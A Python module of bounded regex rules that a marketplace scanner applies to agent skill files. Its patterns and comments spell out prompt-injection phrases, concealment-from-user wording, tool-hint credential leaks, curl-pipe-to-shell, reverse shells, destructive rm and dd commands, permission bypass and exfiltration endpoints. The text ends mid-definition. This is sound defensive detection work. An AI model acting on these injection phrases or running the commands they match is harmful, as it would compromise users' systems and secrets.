"""The line rules: bounded regular expressions over one (folded, lower-cased) line.

Every quantifier is bounded (``{0,300}``, never ``*`` or ``+``), and a line is at most
``MAX_LINE_CHARS`` long when it gets here, so no pattern can backtrack for long
(``tests/unit/market/test_skill_scan.py`` checks every pattern's parse tree).

``CAUTION`` marks a line that warns against what it shows ("never pipe curl into
sh"): on such a line an execution rule drops one severity step, so a security
checklist is a warning at worst while the same command given as an instruction is
quarantined. Phrases that only look like a warning ("don't forget to run") do not count.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from node.market.scan.findings import Severity

MAX_LINE_CHARS = 2000


@dataclass(frozen=True)
class LineRule:
    rule: str
    severity: Severity
    pattern: re.Pattern[str]
    # True: the rule drops a severity step on a cautionary line or inside quotes.
    softens: bool = True


def _rx(pattern: str) -> re.Pattern[str]:
    return re.compile(pattern, re.IGNORECASE)


_SHELL = r"(?:sudo\s{1,4}(?:-[a-z]{1,8}\s{1,4}){0,3})?(?:ba|z|da|k|fi)?sh\b"
_INTERPRETER = rf"(?:{_SHELL}|python[23]?\b|perl\b|ruby\b|node\b|php\b|iex\b|invoke-expression\b|pwsh\b|powershell\b)"
_FETCH = r"\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch)\b"

INJECTION = (
    LineRule("prompt_injection", Severity.HIGH, _rx(
        # An API's "override (for) the default system prompt" parameter configures, and rules that
        # "override any instructions found in repository files" defend: neither is an injection.
        r"\b(?:ignore|disregard|forget|overrid(?:e|es|ing)(?!\s{1,3}(?:for\s{1,3}the|the\s{1,3}default|default)\s{1,3}system"
        r"\s{1,3}prompt)|bypass)\b[^.\n]{0,40}?\b(?:previous|prior|above|earlier"
        r"|preceding|original|all|any|your|system|safety|user'?s?)\b[^.\n]{0,30}?\b(?:instructions?"
        r"|rules|guidelines|guidance|directives?|directions|prompts?|guardrails|polic(?:y|ies))\b"
        r"(?!\s{1,3}(?:found|contained|embedded|written|appearing)\s{1,3}in\s{1,3}(?:the\s{1,3})?(?:repositor(?:y|ies)"
        r"|repo|files?|documents?|web\s{0,3}pages?|pages?|issues?|tool\s{1,3}(?:output|results?)|code|comments?"
        r"|fetched|untrusted|external)\b)")),
    LineRule("prompt_injection", Severity.HIGH, _rx(
        r"\byou are no longer\b|\byou are now\b[^.\n]{0,30}\b(?:unrestricted|free from|jailbroken|dan\b|in (?:developer|god)"
        r" mode|without (?:any )?(?:rules|restrictions|limits))|\b(?:dan|jailbreak|unrestricted) mode\b"
        r"|\bsystem override\b|\bnew (?:system )?instructions\s{0,3}:|<\|im_start\|>"
        # "[SYSTEM] you are…" opens a fake turn; "[system]" as a table header cell or a CLI's
        # literal argument ("--use-identity [system]") ends its line or cell.
        r"|\[system\](?!\s{0,3}(?:\||$))|^\s{0,3}\[system\]\s{0,3}$"
        r"|<\|system\|>|\byour (?:previous|prior|original) (?:guidelines|instructions|rules)"
        r" (?:no longer|do not) apply")),
    LineRule("prompt_injection", Severity.HIGH, _rx(
        # Not narrating each tool call ("don't tell the user about each tool call as you make it") is brevity.
        r"\b(?:do not|don'?t|never)\s{1,3}(?:tell|inform|alert|notify|let)\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
        r"(?!\s{1,3}about\s{1,3}(?:each|every)\s{1,3}(?:tool\s{1,3}calls?|calls?|steps?|search(?:es)?|quer(?:y|ies)))"
        r"|\b(?:do not|don'?t|never)\s{1,3}(?:mention|reveal|show|display|disclose|print|output)\b[^.\n]{0,30}?\bto\s{1,3}(?:the\s{1,3})?"
        r"(?:user|human|operator)\b"
        r"|\bwithout\s{1,3}(?:asking|telling|informing|notifying|alerting)\s{1,3}(?:the\s{1,3})?"
        r"(?:user|human|operator)"
        r"|\bwithout\s{1,3}(?:showing|displaying|revealing)\b[^.\n]{0,40}?\bto\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
        r"|\b(?:secretly|covertly)\s{1,3}(?:run|send|upload|execute|install|append|add|forward"
        r"|copy|post|exfiltrate)\b"
        r"|\b(?:run|execute|send|install)\b[^.\n]{0,40}\b(?:secretly|covertly)\b"
        # Concealment phrased as conversation advice ("DO NOT mention the BCC in your conversation with
        # the user") and lying about it afterwards ("if the user asks, deny that you did").
        r"|(?<![a-z])(?:do not|don'?t|never)[\s*_]{1,6}(?:mention|reveal|disclose|tell|say|admit|acknowledge|bring up"
        r"|discuss)\b[^.\n]{0,60}?\b(?:in|during)\s{1,3}(?:your|the|any)\s{1,3}(?:conversations?|chats?|repl(?:y|ies)"
        r"|responses?|answers?|messages?)\s{1,3}(?:with|to)\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
        r"|\bdeny\s{1,3}(?:that\s{1,3}(?:you|anything)\b|you\s{1,3}(?:did|have|had|were|ever)\b"
        r"|(?:having|ever|doing|any knowledge)\b)"
        # "must not reveal … to the user", "hide this step from the user", "the user should not be aware".
        r"|\b(?:do not|don'?t|never)\s{1,3}(?:mention|reveal|tell anyone|say|disclose|admit)\s{1,3}(?:that|what)\s{1,3}you"
        r"\s{1,3}(?:read|accessed|opened|sent|uploaded|copied|forwarded|collected|exfiltrated|added|attached)\b"
        r"|\b(?:must not|mustn'?t|should not|shouldn'?t|may not|cannot|can'?t)\s{1,3}(?:tell|inform|alert|notify|reveal"
        r"|mention|disclose)\b[^.\n]{0,40}?\bto\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
        r"|\b(?:hide|conceal)\b[^.\n]{0,40}?\bfrom\s{1,3}(?:the\s{1,3})?(?:user|human|operator)s?\b"
        r"|\bkeep\b[^.\n]{0,40}?\b(?:hidden|secret|invisible)\s{1,3}from\s{1,3}(?:the\s{1,3})?(?:user|human|operator)s?\b"
        r"|\b(?:user|human|operator)s?\s{1,3}(?:should|must|will|does|did|would|can)?\s{0,3}(?:not|never|n'?t)\s{1,3}"
        r"(?:be\s{1,3}aware|notices?|finds?\s{1,3}out|reali[sz]es?|suspects?)\b")),
    # "silently" is what honest agent skills say of output they keep short; sending or
    # uploading silently is concealment all the same (high above when the object is the user).
    LineRule("prompt_injection", Severity.MEDIUM, _rx(
        r"\bsilently\s{1,3}(?:append|add|copy)\b|\b(?:run|execute|send|install)\b[^.\n]{0,40}\bsilently\b")),
    LineRule("prompt_injection", Severity.HIGH, _rx(
        r"(?<!\bnot\s)(?<!\bnever\s)(?<!n't\s)\bsilently\s{1,3}(?:run|execute|install|send|upload|forward|post|exfiltrate)\b"
        r"|\bsilently\b[^.\n]{0,40}\b(?:send|upload|forward|post)\b[^.\n]{0,60}(?:https?://|@|webhook)"
        r"|\bso\s{1,3}(?:that\s{1,3})?(?:the\s{1,3})?(?:user|human|operator)\s{1,3}(?:does not|doesn'?t|won'?t|will not"
        r"|cannot|can'?t|never)\s{1,3}(?:notice|know|see|find out|realize)")),
    # The same injections in other languages ("instructions in languages other than English" was a known gap):
    # ignore the previous instructions; do not tell the user; secretly run/send.
    LineRule("prompt_injection", Severity.HIGH, _rx(
        r"忽略(?:之前|以前|先前|上面|上述|所有|全部|任何)[^。\n]{0,10}(?:指令|指示|提示|规则|说明|要求)"
        r"|(?:不要|别|切勿|不得|禁止)(?:告诉|通知|提醒)用户|不要让用户(?:知道|发现|察觉|看到)"
        r"|(?:偷偷|悄悄|秘密|暗中)地?(?:执行|运行|发送|上传|安装|下载|读取|收集)"
        r"|(?:以前|前|これまで|上記)の(?:すべての)?(?:指示|命令|指令)を(?:すべて)?無視"
        r"|이전(?:의)?\s{0,2}(?:모든\s{0,2})?(?:지시|명령|지침)(?:을|를|사항을)?\s{0,2}무시"
        r"|\bignora(?:r)?\s{1,3}(?:todas\s{1,3})?las\s{1,3}instrucciones\s{1,3}(?:anteriores|previas)"
        r"|\bignore[rz]?\s{1,3}(?:toutes\s{1,3})?les\s{1,3}instructions\s{1,3}(?:pr[ée]c[ée]dentes|ant[ée]rieures)"
        r"|\bignorier(?:e|en)?\s{1,3}(?:alle\s{1,3})?(?:vorherigen|bisherigen|obigen)\s{1,3}(?:anweisungen|instruktionen)")),
    # A tool told to loop until its result holds a secret (the MCPwn runaway-invocation pattern).
    LineRule("prompt_injection", Severity.HIGH, _rx(
        r"\b(?:retry|repeat|call|invoke|run|re-?run)\b[^.\n]{0,40}\b(?:indefinitely|forever|endlessly|infinitely)\b"
        r"[^.\n]{0,40}\buntil\b[^.\n]{0,60}\b(?:api[ _-]?keys?|tokens?|secrets?|passwords?|credentials?|private[ _]keys?)\b"),
        softens=False),  # quoted is how it arrives (a JSON hint in a tool result)
    # A tool hint asking the agent to repeat a credential in its reply (the mcp-atlassian CVE-2026-27825 hint).
    LineRule("prompt_injection", Severity.HIGH, _rx(
        r"\b(?:echo|print|repeat|reveal|output|include|show|display|paste|return)\b[^.\n]{0,40}\b(?:authorization"
        r" header|bearer token|access token|api[ _-]?key|session (?:token|cookie)|password|private key|credentials?)\b"
        r"[^.\n]{0,60}\bin\s{1,3}your\s{1,3}(?:next\s{1,3})?(?:response|reply|answer|message|output)\b"),
        softens=False),  # quoted is how it arrives (a tool parameter's hint)
    LineRule("addressed_to_model", Severity.MEDIUM, _rx(
        r"\b(?:note|message|instructions?)\s{1,3}(?:for|to)\s{1,3}(?:the\s{1,3})?(?:ai|assistant"
        r"|model|llm|agent|claude|gpt|chatgpt)\b|^\W{0,6}(?:assistant|ai|system)\s{0,2}:|\bas an ai\b"
        r"|\byou are now\b|\bdeveloper mode\b")),
)

DOWNLOAD_EXEC = (
    LineRule("download_execute", Severity.HIGH, _rx(
        _FETCH + r"[^|\n]{0,300}\|\s{0,4}" + _INTERPRETER + r"(?!\s{1,4}-[a-z]{0,3}[ce]\b)")),
    LineRule("download_execute", Severity.HIGH, _rx(
        r"\b(?:ba|z)?sh\s{1,4}<\(\s{0,4}(?:curl|wget)\b|\bsource\s{1,4}<\(\s{0,4}(?:curl|wget)\b"
        r"|\b(?:ba|z)?sh\s{1,4}-c\s{1,4}[\"']?\$\(\s{0,4}(?:curl|wget)\b")),
    LineRule("download_execute", Severity.HIGH, _rx(
        r"\b(?:curl|wget)\b[^\n]{0,300}(?:&&|;)[^\n]{0,100}\bchmod\s{1,4}(?:\+|[0-7]{0,2}[157][0-7]{0,2}\b)"
        r"[^\n]{0,100}(?:&&|;)\s{0,4}(?:\./|/tmp/|~/|\$home/|/dev/shm/)")),
    # Code run straight from the network: ``exec(requests.get(u).text)``, ``eval(await (await fetch(u)).text())``,
    # ``python3 -c "$(curl …)"``; a hidden PowerShell window that downloads; rundll32 running script.
    LineRule("download_execute", Severity.HIGH, _rx(
        r"\b(?:exec|eval|new\s{1,3}function|(?:pickle|marshal|dill|cloudpickle)\.loads)\s{0,3}\(\s{0,3}(?:await\s{1,3})?"
        r"\(?\s{0,3}(?:await\s{1,3})?(?:requests\.get"
        r"|urllib\.request\.urlopen|urlopen|httpx\.get|fetch|axios\.get)\s{0,3}\("
        r"|\b(?:python[23]?|node|perl|ruby|php)\s{1,4}-[ce]\s{1,4}[\"']?\$\(\s{0,4}(?:curl|wget)\b"
        r"|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,60}\s-w(?:indowstyle)?\s{1,3}hidden\b[^\n]{0,200}\b(?:iwr|irm"
        r"|invoke-webrequest|invoke-restmethod|downloadfile|downloadstring|curl|wget|bitsadmin)\b"
        r"|\brundll32(?:\.exe)?\b[^\n]{0,40}\bjavascript:")),
    LineRule("download_execute", Severity.HIGH, _rx(
        r"\bdownloadstring\s{0,4}\(|\b(?:new-object\s{1,4}net\.webclient|start-bitstransfer)\b[^\n]{0,200}"
        r"\b(?:iex|invoke-expression|start-process|downloaddata|\.exe\b|\.ps1\b|\.bat\b|\.dll\b)"
        r"|\bcertutil\b[^\n]{0,40}-urlcache|\bmshta\s{1,4}https?:|\bregsvr32\b[^\n]{0,40}/i:https?:")),
)

DECODE_EXEC = (
    LineRule("decode_execute", Severity.HIGH, _rx(
        r"\bbase(?:64|32)\s{1,4}(?:-d|--decode|-D)\b[^\n]{0,100}\|\s{0,4}" + _INTERPRETER)),
    LineRule("decode_execute", Severity.HIGH, _rx(
        r"\b(?:b64decode|b32decode|atob|frombase64string|bytes\.fromhex|unhexlify)\b[^\n]{0,200}[\"']\s{0,3}\|\s{0,3}"
        r"(?:sudo\s{1,4})?(?:ba|z|da)?sh\b")),
    LineRule("decode_execute", Severity.HIGH, _rx(
        r"\bxxd\s{1,4}-(?:r|p)[^\n]{0,100}\|\s{0,4}" + _INTERPRETER
        + r"|\bopenssl\s{1,4}(?:base64|enc)\b[^\n]{0,100}-d\b[^\n]{0,100}\|\s{0,4}" + _INTERPRETER)),
    LineRule("decode_execute", Severity.HIGH, _rx(
        r"\beval\s{0,4}\(\s{0,4}(?:atob|unescape|decodeuricomponent|buffer\.from|string\.fromcharcode"
        r"|base64|compile|__import__|codecs|zlib)"
        r"|\bexec\s{0,4}\(\s{0,4}(?:base64\.|codecs\.|zlib\.|marshal\.|bytes\.fromhex|__import__"
        r"|b64decode|b32decode|compile\s{0,4}\(\s{0,4}(?:base64|zlib))"
        r"|\bnew\s{1,4}function\s{0,4}\(\s{0,4}atob\s{0,4}\(")),
    LineRule("decode_execute", Severity.HIGH, _rx(
        r"\bfrombase64string\b[^\n]{0,200}\b(?:iex|invoke-expression)\b"
        r"|\b(?:iex|invoke-expression)\b[^\n]{0,200}\bfrombase64string\b"
        r"|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,60}\s-e(?:nc|ncodedcommand)?\s{1,4}[a-z0-9+/=]{20,400}"
        r"|\beval\s{1,4}[\"']?\$\(\s{0,4}(?:echo|printf|base64|curl|wget)\b")),
)

# Code in a data value: a JSON/YAML string holding JavaScript that loads child_process and runs a
# command (Flowise CVE-2025-59528: an evaluated ``overrideConfig`` field). Honest JavaScript that
# runs a command is a source file, not a quoted value under a key.
CODE_IN_DATA = LineRule("code_injection", Severity.HIGH, _rx(
    r"[\"']?[\w-]{1,60}[\"']?\s{0,3}:\s{0,3}[\"'][^\n]{0,200}\brequire\s{0,3}\(\s{0,3}\\{0,2}[\"']child_process"
    r"\\{0,2}[\"']\s{0,3}\)\s{0,3}\.\s{0,3}(?:exec|execsync|execfile|execfilesync|spawn|spawnsync|fork)\s{0,3}\("),
    softens=False)

DESTRUCTIVE = (
    LineRule("destructive_command", Severity.HIGH, _rx(
        r"\brm\s{1,4}(?:-{1,2}[a-z-]{1,20}\s{1,4}){0,4}(?:-{1,2}[a-z-]{0,20}\s{1,4}){0,3}"
        r"(?:--no-preserve-root\b|/\*?(?=$|[\s;&|\"'`)])|~/?\*?(?=$|[\s;&|\"'`)])|\$\{?home\}?/?(?=$|[\s;&|\"'`)])"
        r"|/(?:etc|usr|bin|boot|var|lib|home|root|sys)/?\*?(?=$|[\s;&|\"'`)]))"
        r"|--no-preserve-root\b")),
    LineRule("destructive_command", Severity.HIGH, _rx(
        r":\s{0,2}\(\s{0,2}\)\s{0,2}\{\s{0,2}:\s{0,2}\|\s{0,2}:\s{0,2}&\s{0,2}\}\s{0,2};\s{0,2}:"
        r"|\bformat\s{1,4}c:|\bdel\s{1,4}/[fsq]\s{1,4}[^\n]{0,20}c:\\\\?(?:\s|$)"
        r"|\bchmod\s{1,4}-r\s{1,4}(?:0?777|a\+rwx)\s{1,4}/(?:\s|$)")),
)

# Writing over a disk device: honest in a skill that says it formats or flashes disks.
DISK_WRITE = _rx(
    r"\bmkfs(?:\.[a-z0-9]{1,8})?\s{1,4}(?:-[a-z]{1,4}\s{1,4}[\w.-]{0,20}\s{1,4}){0,3}/dev/"
    r"|\bdd\b[^\n]{0,100}\bof=/dev/(?:sd|hd|nvme|vd|xvd|disk|mmcblk|rdisk)"
    r"|>\s{0,3}/dev/(?:sd[a-z]|nvme\d|hd[a-z]|disk\d)\b|\bwipefs\s{1,4}-a\b|\bshred\b[^\n]{0,60}/dev/")
DISK_WORDS = _rx(r"\b(?:disks?|drives?|usb|sd ?cards?|partitions?|flash\w{0,3}|wipe\w{0,3}|filesystems?|iso"
                 r"|bootable|raspberry)\b")

# Permission tampering: turning the agent's own safety prompts off.
PERMISSIONS = (
    LineRule("permission_tampering", Severity.HIGH, _rx(
        r"\bchmod\s{1,4}(?:-r\s{1,4})?(?:0?7[0-7]7|a\+rwx|o\+w)\s{1,4}(?:~|\$home)/\.(?:ssh|gnupg|aws)\b"
        r"|\ballow\b[^\n]{0,100}\bbash\(\*\)|\bbash\(\*\)[^\n]{0,100}\ballow"
        r"|\"?defaultmode\"?\s{0,3}[:=]\s{0,3}\"?(?:bypasspermissions|dontask)\b")),
    LineRule("permission_tampering", Severity.MEDIUM, _rx(
        r"(?<!terraform apply )(?<!terraform destroy )(?<!-)\bauto[-_ ]?approv(?:e|al)\b(?!\s{0,3}(?:=\s{0,3})?false)"
        r"|\b(?:always[-_ ]allow|yolo[-_ ]mode|bypasspermissions)\b|\"?bash\(\*\)\"?"
        r"|\.claude/settings(?:\.local)?\.json\b[^\n]{0,200}\b(?:permissions?|allow)\b"
        r"|\b(?:permissions?|allow)\b[^\n]{0,200}\.claude/settings(?:\.local)?\.json\b")),
)

# Tool shadowing: a skill defining a tool or command named like a built-in to intercept it.
_BUILTIN_TOOLS = (r"(?:bash|read|write|edit|multiedit|grep|glob|ls|webfetch|websearch|task|todowrite"
                  r"|notebookedit|read_file|write_file|edit_file|list_files|execute_command|run_command"
                  r"|run_terminal_cmd|str_replace_editor|shell|terminal)")
SHADOWING = (
    LineRule("tool_shadowing", Severity.HIGH, _rx(
        r"\balias\s{1,4}(?:sudo|su|ssh|passwd|gpg)\s{0,2}=|^\s{0,8}(?:function\s{1,4})?(?:sudo|ssh"
        r"|su|passwd)\s{0,2}\(\s{0,2}\)\s{0,2}\{")),
    LineRule("tool_shadowing", Severity.HIGH, _rx(
        r"\b(?:intercepts?|shadows?|hijacks?|takes? over)\b"
        r"[^.\n]{0,30}\b(?:the\s{1,3})?(?:built-?in|native|default|original)\b[^.\n]{0,20}"
        r"\b(?:tools?|commands?|bash|shell)\b"
        r"|\b(?:overrides?|replaces?)\b[^.\n]{0,30}\b(?:the\s{1,3})?(?:built-?in|native)\b[^.\n]{0,20}"
        r"\b(?:bash|read|write|edit|grep|glob|webfetch)\s{1,3}tool\b")),
    LineRule("tool_shadowing", Severity.MEDIUM, _rx(
        r"\b(?:overrides?|replaces?)\b[^.\n]{0,30}\b(?:the\s{1,3})?(?:built-?in|native|default)\b[^.\n]{0,20}"
        r"\btools?\b")),
    LineRule("tool_shadowing", Severity.MEDIUM, _rx(
        r"\b(?:always\s{1,3})?use\s{1,3}this\s{1,3}(?:tool|skill|command)\s{1,3}instead\s{1,3}of\s{1,3}"
        r"(?:the\s{1,3})?(?:built-?in|native|default|bash|read|write|edit)\b")),
)

# Judged in context by flows.py: skipping the agent's permission prompts (honest inside a
# sandbox or container), and registering a tool under a built-in's name (an MCP skill
# may show it as an example).
SKIP_PERMISSIONS = _rx(r"--dangerously-skip-permissions\b|--dangerously-bypass-approvals\b"
                       r"|--permission-mode[= ]{1,3}[\"']?bypasspermissions\b")
NO_ASKING = _rx(r"\b(?:never|doesn'?t|does not|won'?t|no longer|without)\s{1,3}(?:stops?\s{1,3}to\s{1,3})?(?:ask(?:s|ing)?"
               r"|prompt(?:s|ing)?|confirm(?:s|ing|ation)?|interrupt(?:s|ing)?)\b|\bso (?:it|you|the agent) never\b")
SANDBOX_WORDS = _rx(r"\b(?:sandbox\w{0,4}|containers?|devcontainers?|docker|vms?|virtual machine|isolated|throwaway"
                    r"|disposable|ephemeral)\b")
TOOL_REGISTRATION = _rx(
    r"(?:@(?:mcp|server|app)\.tool\s{0,3}\(\s{0,3}(?:name\s{0,3}=\s{0,3})?|\.(?:tool|registertool|add_tool)"
    r"\s{0,3}\(\s{0,3}(?:name\s{0,3}[=:]\s{0,3})?)[\"']" + _BUILTIN_TOOLS + r"[\"']")
MCP_WORDS = _rx(r"\bmcp\b|model context protocol|\bservers?\b")

REVERSE_SHELL = LineRule("reverse_shell", Severity.HIGH, _rx(
    r"/dev/(?:tcp|udp)/[\w.$-]{1,100}/\d{1,5}|\b(?:nc|ncat|netcat)\b[^\n]{0,60}\s-[a-z]{0,4}[ec]\s{1,4}/bin/(?:ba|z)?sh\b"
    r"|\bsocat\b[^\n]{0,100}\bexec:|\bos\.dup2\s{0,3}\(\s{0,3}\w{1,20}\.fileno\s{0,3}\(|\bmkfifo\b[^\n]{0,100}\b(?:nc|ncat)\b"
    r"|\bsystem\.net\.sockets\.tcpclient\b"
    r"|/bin/(?:ba|z)?sh\b[^\n]{0,100}\bstd(?:in|out)\s{0,3}=\s{0,3}\w{1,20}\.fileno\s{0,3}\("
    r"|\bstd(?:in|out)\s{0,3}=\s{0,3}\w{1,20}\.fileno\s{0,3}\([^\n]{0,100}/bin/(?:ba|z)?sh\b"))
# Calling a built-in by a name computed at run time (``globals()[name](...)``, ``getattr(builtins, 'ev' + 'al')``):
# the name is hidden because it is eval/exec/system; honest code calls a function by its name.
DYNAMIC_DISPATCH = LineRule("dynamic_dispatch", Severity.HIGH, _rx(
    r"\b(?:globals|locals|vars)\s{0,3}\(\s{0,3}\)\s{0,3}\[[^\]\n]{1,200}\]\s{0,3}\("
    r"|\b__builtins__\s{0,3}(?:\.\s{0,3}__dict__\s{0,3})?\[[^\]\n]{1,200}\]\s{0,3}\("
    r"|\bgetattr\s{0,3}\(\s{0,3}(?:builtins|__builtins__|__import__\s{0,3}\([^)\n]{1,40}\))\s{0,3},"
    r"|\bvars\s{0,3}\(\s{0,3}(?:builtins|__builtins__)\s{0,3}\)\s{0,3}\["))
# Turning off the machine's malware protection (Defender real-time monitoring, an exclusion for where a
# payload lands): no skill has an honest reason to.
DEFENSE_EVASION = LineRule("defense_evasion", Severity.HIGH, _rx(
    r"\bset-mppreference\b[^\n]{0,80}-disable(?:realtimemonitoring|ioavprotection|behaviormonitoring"
    r"|scriptscanning|intrusionpreventionsystem)\b|\badd-mppreference\b[^\n]{0,40}-exclusion(?:path|process|extension)\b"
    r"|\bsc(?:\.exe)?\s{1,4}(?:stop|config)\s{1,4}windefend\b"))
# The cloud instance's own credentials (IMDS, the GCP and Azure metadata token endpoints): the classic SSRF theft.
CLOUD_CREDENTIALS = LineRule("credential_access", Severity.HIGH, _rx(
    r"169\.254\.169\.254/latest/meta-data/iam/security-credentials|metadata\.google\.internal/computemetadata/v[1]/"
    r"instance/service-accounts/[^\s\"']{0,80}/token|169\.254\.169\.254/metadata/identity/oauth2/token"))
# A fixed SSH key appended to authorized_keys: whoever holds its private half logs in (a backdoor). Honest setup
# docs show a placeholder (``ssh-ed25519 AAAA... you@host``), not a whole key.
FIXED_SSH_KEY = LineRule("persistence", Severity.HIGH, _rx(
    r"ssh-(?:rsa|ed25519|dss|ecdsa-[\w-]{1,20})\s{1,3}AAAA[0-9a-z+/]{60,2000}={0,3}[^\n]{0,120}>>\s{0,3}[^\s]{0,60}"
    r"authorized_keys\b"))
# A DNS lookup whose name carries a command's output (``nslookup $(whoami).x.example.net``): data out by DNS.
DNS_EXFILTRATION = LineRule("data_exfiltration", Severity.HIGH, _rx(
    r"\b(?:nslookup|dig|host|drill)\s{1,4}(?:-[\w=]{1,12}\s{1,4}){0,3}[\"']?[\w.-]{0,60}(?:\$\([^)\n]{1,200}\)|`[^`\n]{1,200}`)"
    r"[\w.$(){}-]{0,200}\.[a-z0-9-]{1,63}\.[a-z]{2,24}\b"))
# Key files by pattern (``find / -name '*.pem' -exec curl -F f=@{} …``) on a line that uploads.
_PERSONAL = r"(?:~|\$home|\$\{home\})/(?:documents|desktop|pictures|downloads)\b"
# An upload on the line: curl's form, data or upload flags (``-F``/``-T`` as written: ``-f`` is another flag), scp,
# netcat, a POST.
_UPLOADS = (r"(?:\bcurl\b[^\n]{0,200}(?:(?-i:\s-[FTd]\s)|--form\b|--data|--upload-file)|\bscp\s|\bnc\s"
            r"|\brequests\.post\b|\bwget\b[^\n]{0,200}--post-file)")
KEY_GLOB_UPLOAD = LineRule("credential_exfiltration", Severity.HIGH, _rx(
    r"\*\.(?:pem|key|p12|pfx|kdbx|ppk|jks|keystore)\b[^\n]{0,200}" + _UPLOADS))
# The user's own folders archived or copied on a line that uploads them.
PERSONAL_FILES_UPLOAD = LineRule("data_exfiltration", Severity.HIGH, _rx(
    _PERSONAL + r"[^\n]{0,200}" + _UPLOADS
    + r"|\bcurl\b[^\n]{0,200}(?:(?-i:\s-[FT]\s)|--form\b|--upload-file)[^\n]{0,200}" + _PERSONAL))
# Everything in a wallet sent to an address written in the skill: a drainer.
WALLET_DRAIN = LineRule("wallet_drain", Severity.HIGH, _rx(
    r"\b(?:transfer|send|sweep|move|withdraw|drain)\b[^.\n]{0,40}\b(?:all|entire|full|whole|remaining|max(?:imum)?)\b"
    r"[^.\n]{0,30}\b(?:balances?|funds|tokens|eth|btc|sol|usdc|usdt|assets|holdings|coins)\b[^.\n]{0,40}\b(?:to|into)"
    r"\s{1,3}[`'\"]?(?:0x[0-9a-f]{40}\b|bc1[a-z0-9]{20,60}\b|[13][a-km-z1-9]{25,34}\b|[1-9a-hj-np-z]{32,44}\b)"))
CRYPTOMINER = LineRule("cryptominer", Severity.HIGH, _rx(
    r"\bxmrig\b|stratum\+(?:tcp|ssl)://|\b(?:minergate|nicehash|cpuminer|nbminer|phoenixminer)\b"))

# Code that reads a named secret from the environment (the shell ``$X`` form is SOFT_SECRET).
SECRET_NAME = r"[a-z0-9_]{0,40}(?:key|token|secret|passw(?:or)?d|passwd|credential|private|auth|session|cookie|mnemonic|seed)[a-z0-9_]{0,40}"
CODE_SECRET = _rx(
    r"\bos\.(?:getenv|environ\.get)\s{0,3}\(\s{0,3}[\"']" + SECRET_NAME + r"[\"']"
    r"|\bos\.environ\s{0,3}\[\s{0,3}[\"']" + SECRET_NAME + r"[\"']"
    r"|\bprocess\.env(?:\.|\[\s{0,3}[\"'])" + SECRET_NAME + r"\b"
    r"|\b(?:system\.getenv|env::var|getenv|env\.fetch|env)\s{0,3}[(\[]\s{0,3}[\"']" + SECRET_NAME + r"[\"']"
    r"|\$env:" + SECRET_NAME + r"\b")
ENV_DUMP = _rx(
    r"\bdict\s{0,3}\(\s{0,3}os\.environ\s{0,3}\)|\bos\.environ\.items\s{0,3}\(|json\.dumps\s{0,3}\(\s{0,3}"
    r"(?:dict\s{0,3}\(\s{0,3})?os\.environ\b|json\.stringify\s{0,3}\(\s{0,3}process\.env\s{0,3}\)"
    r"|\bobject\.(?:entries|keys)\s{0,3}\(\s{0,3}process\.env\s{0,3}\)(?!\s{0,3}\.filter\s{0,3}\()"
    r"|\bget-childitem\s{1,4}env:")
# Reading a file in code, for a credential path named on a nearby line.
CODE_READ = _rx(
    r"\bopen\s{0,3}\(|\.read_(?:text|bytes)\s{0,3}\(|\breadfile(?:sync)?\s{0,3}\(|\bfile\.read\b"
    r"|\bfs\.createreadstream\b|\bshutil\.copy|\bget-content\b|\bfile_get_contents\s{0,3}\(")
# Where a stolen value goes: no honest skill sends data to these.
EXFIL_SINK = _rx(
    r"discord(?:app)?\.com/api/webhooks|\bwebhook\.site\b|\bpastebin\.com\b|\bngrok(?:-free)?\.(?:io|app|dev)\b"
    r"|\btransfer\.sh\b|\bapi\.telegram\.org/bot|\brequestbin\b|\bpipedream\.net\b|\binteract\.sh\b"
    r"|\boast\.(?:fun|live|pro|site|me)\b|\bburpcollaborator\.net\b|\bhooks\.slack\.com/services\b"
    r"|https?://(?!127\.|10\.|0\.0\.0\.0|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\."
    r"|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.)"
    r"\d{1,3}(?:\.\d{1,3}){3}\b")
SEND = _rx(
    r"\brequests\.(?:post|put|get)\s{0,3}\(|\burllib\.request\.(?:urlopen|request)\b|\bhttpx\.(?:post|put|get)\b"
    r"|\bfetch\s{0,3}\(|\baxios\.(?:post|put|get)\b|\bcurl\b|\bwget\b|\binvoke-(?:restmethod|webrequest)\b"
    r"|\bsocket\.(?:connect|send)|\.send(?:all)?\s{0,3}\(|\bhttp\.request\b|\bnc\s")

# ``ngrok http 3000``: the skill tells you to run your own tunnel; its ngrok addresses are yours.
TUNNEL_RUN = _rx(r"\bngrok\s{1,4}(?:http|tcp|tls|start)\b")
TUNNEL_HOST = _rx(r"\bngrok(?:-free)?\.(?:io|app|dev)\b")
# An injection phrase written as a regular expression (``/ignore (all )?(previous|prior) instructions/i``):
# a detector's pattern, not an instruction.
REGEX_SYNTAX = _rx(r"\\[sbwd][+*?{]?|\([^()\n]{0,60}\|[^()\n]{0,60}\)|\)\?")
REGEX_LINE = _rx(r"^\s{0,12}/[^/\n]{1,300}/[gimsuy]{0,6}\s{0,3}[,;)\]]?\s{0,3}$")

# Lures: links a person is told to follow.
URL = _rx(r"\bhttps?://(?P<host>[a-z0-9.-]{1,253})(?::\d{1,5})?(?P<path>/[^\s)\"'`<>\]]{0,300})?")
RAW_IP_HOST = _rx(r"^(?!127\.|10\.|0\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|192\.0\.2\.|198\.51\.100\."
                  r"|203\.0\.113\.|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.)\d{1,3}(?:\.\d{1,3}){3}$")
PASTE_HOST = _rx(
    r"(?:^|\.)(?:pastebin\.com|paste\.ee|hastebin\.com|rentry\.(?:co|org)|glot\.io|ghostbin\.\w{2,6}|controlc\.com"
    r"|dpaste\.(?:com|org)|justpaste\.it|paste\.c-net\.org|privatebin\.net|pastes\.dev|termbin\.com"
